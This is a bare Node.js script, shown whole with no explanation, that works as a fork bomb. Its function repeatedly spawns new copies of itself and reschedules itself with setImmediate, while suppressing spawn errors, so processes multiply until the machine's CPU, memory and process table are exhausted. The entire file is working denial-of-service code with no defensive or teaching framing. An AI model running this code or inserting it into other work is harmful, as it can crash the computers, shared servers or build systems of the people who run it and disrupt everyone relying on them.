const { spawn } = require('child_process');

function more() {
  spawn(process.execPath, [__filename]).on('error', () => {});
  setImmediate(more);
}
more();
